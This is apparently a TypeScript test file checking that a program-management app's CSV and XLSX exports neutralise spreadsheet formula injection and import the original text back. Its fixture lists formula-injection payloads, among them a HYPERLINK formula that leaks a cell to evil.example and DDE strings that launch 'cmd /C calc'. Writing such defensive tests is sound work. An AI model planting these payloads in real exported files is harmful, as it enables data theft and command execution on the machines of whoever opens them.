// Exports neutralise formula cells (OWASP "CSV Injection"): a text cell starting with = + - @,
// a tab or a carriage return gets an apostrophe first in CSV and XLSX, and importing the file
// reads the original text back.
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { institution, track } from '../fixtures';
import { openTestServices } from './helpers';

const HOSTILE = {
  name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  city: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  pdName: '-2+3+cmd|\' /C calc\'!A0',
  coordinatorName: '+1+1',
  notes: '\t=1+1',
  dataSource: '\r=1+1',
};

async function withHostileProgram() {
  const t = openTestServices();
  await t.call('institutions.save', {
    institution: institution({ name: HOSTILE.name, city: HOSTILE.city, pdName: HOSTILE.pdName, coordinatorName: HOSTILE.coordinatorName, dataSource: HOSTILE.dataSource }),
    tracks: [track('preliminary', { nrmpCode: '1234440P0', notes: HOSTILE.notes })],
  });
  return t;
}

describe('formula cells in exports', () => {
  it('CSV: every text cell that would start a formula starts with an apostrophe; negative numbers stay numbers', async () => {
    const t = await withHostileProgram();
    const file = await t.call('export.file', { what: 'programs', format: 'csv' });
    const rows = Papa.parse<string[]>(Buffer.from(file.base64, 'base64').toString('utf8').replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    const cells = rows.flat();
    const live = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(live).toEqual([]);
    for (const v of [HOSTILE.name, HOSTILE.city, HOSTILE.pdName, HOSTILE.coordinatorName]) expect(cells).toContain(`'${v}`);
  });

  it('XLSX: no formula cells and no text starting a formula', async () => {
    const t = await withHostileProgram();
    const file = await t.call('export.file', { what: 'programs', format: 'xlsx' });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(file.base64, 'base64') as unknown as ArrayBuffer);
    const values: unknown[] = [];
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => values.push(cell.value))));
    expect(values.filter((v) => typeof v === 'object' && v !== null && ('formula' in v || 'sharedFormula' in v))).toEqual([]);
    expect(values.filter((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toEqual([]);
    expect(values).toContain(`'${HOSTILE.name}`);
  });

  it.each(['csv', 'xlsx'] as const)('a %s export imports back as the original text', async (format) => {
    const t = await withHostileProgram();
    const file = await t.call('export.file', { what: 'programs', format });
    const fresh = openTestServices();
    const upload = { name: file.fileName, base64: file.base64 };
    const preview = await fresh.call('import.preview', { kind: 'programs', file: upload });
    const result = await fresh.call('import.run', { kind: 'programs', file: upload, mapping: preview.mapping });
    expect(result.problems).toEqual([]);
    const [p] = await fresh.call('programs.list');
    expect(p!.institution.name).toBe(HOSTILE.name);
    expect(p!.institution.city).toBe(HOSTILE.city);
    expect(p!.institution.pdName).toBe(HOSTILE.pdName);
    expect(p!.institution.coordinatorName).toBe(HOSTILE.coordinatorName);
  });
});
